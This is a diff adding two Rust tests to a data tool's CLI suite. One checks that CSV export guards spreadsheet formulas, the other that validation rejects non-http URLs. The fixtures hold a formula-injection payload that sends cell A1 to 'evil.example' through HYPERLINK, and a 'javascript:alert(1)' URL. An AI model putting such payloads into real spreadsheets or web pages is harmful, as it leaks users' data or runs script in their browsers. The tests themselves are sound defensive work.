@@ -129,6 +129,48 @@ fn json_to_csv_to_json_round_trips_through_the_cli() {
 }
 
 #[test]
+fn export_csv_guards_formulas_and_import_csv_reads_them_back() {
+    let json = scratch("formula.json");
+    let csv = scratch("formula.csv");
+    let back = scratch("formula-back.json");
+    let mut dataset = health_atlas::data::embedded_dataset().unwrap();
+    dataset.events.truncate(1);
+    dataset.events[0].title.en = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
+    dataset.events[0].note = "@SUM(A1:A9)".into();
+    std::fs::write(&json, serde_json::to_string(&dataset).unwrap()).unwrap();
+    let exported = atlas_data(&["export-csv", json.to_str().unwrap(), "-o", csv.to_str().unwrap()]);
+    assert_eq!(exported.status.code(), Some(0), "{}", text(&exported.stderr));
+    let written = std::fs::read_to_string(&csv).unwrap();
+    assert!(written.contains("\"'=HYPERLINK(\"\"http"), "{written}");
+    assert!(written.contains(",'@SUM(A1:A9)"), "{written}");
+    let imported = atlas_data(&["import-csv", csv.to_str().unwrap(), "-o", back.to_str().unwrap()]);
+    assert_eq!(imported.status.code(), Some(0), "{}", text(&imported.stderr));
+    let read = health_atlas::data::parse_dataset(&std::fs::read_to_string(&back).unwrap()).unwrap();
+    assert_eq!(read.events, dataset.events);
+}
+
+#[test]
+fn validate_refuses_a_javascript_source_url_with_its_place() {
+    let file = scratch("javascript.json");
+    std::fs::write(
+        &file,
+        r#"{"schema_version": 1, "events": [{"id": "a", "title": {"en": "A"}, "category": "forum",
+            "start": "2023-05-18", "precision": "exact",
+            "sources": [{"file": "f", "language": "en", "quote": "q", "url": "javascript:alert(1)"}]}]}"#,
+    )
+    .unwrap();
+    let output = atlas_data(&["validate", file.to_str().unwrap()]);
+    assert_eq!(output.status.code(), Some(1));
+    let stderr = text(&output.stderr);
+    assert!(
+        stderr.contains(
+            "events[0].sources[0].url: \"javascript:alert(1)\" is not an http(s) URL (in the event at line 1)"
+        ),
+        "{stderr}"
+    );
+}
+
+#[test]
 fn csv_validation_errors_name_the_spreadsheet_row() {
     let csv = scratch("bad.csv");
     std::fs::write(
